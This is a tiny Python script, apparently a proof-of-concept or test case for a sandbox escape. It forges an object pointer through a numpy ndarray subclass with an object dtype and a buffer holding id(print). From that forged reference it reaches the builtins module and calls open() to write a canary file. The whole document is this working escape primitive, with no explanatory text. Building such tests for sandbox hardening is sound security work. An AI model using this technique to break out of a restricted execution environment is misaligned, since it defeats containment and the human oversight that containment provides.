import numpy

class Forged(numpy.ndarray):
    pass

Forged((1,), dtype=object, buffer=numpy.array([id(print)]))[0].__self__.open("CANARY/written", "w")
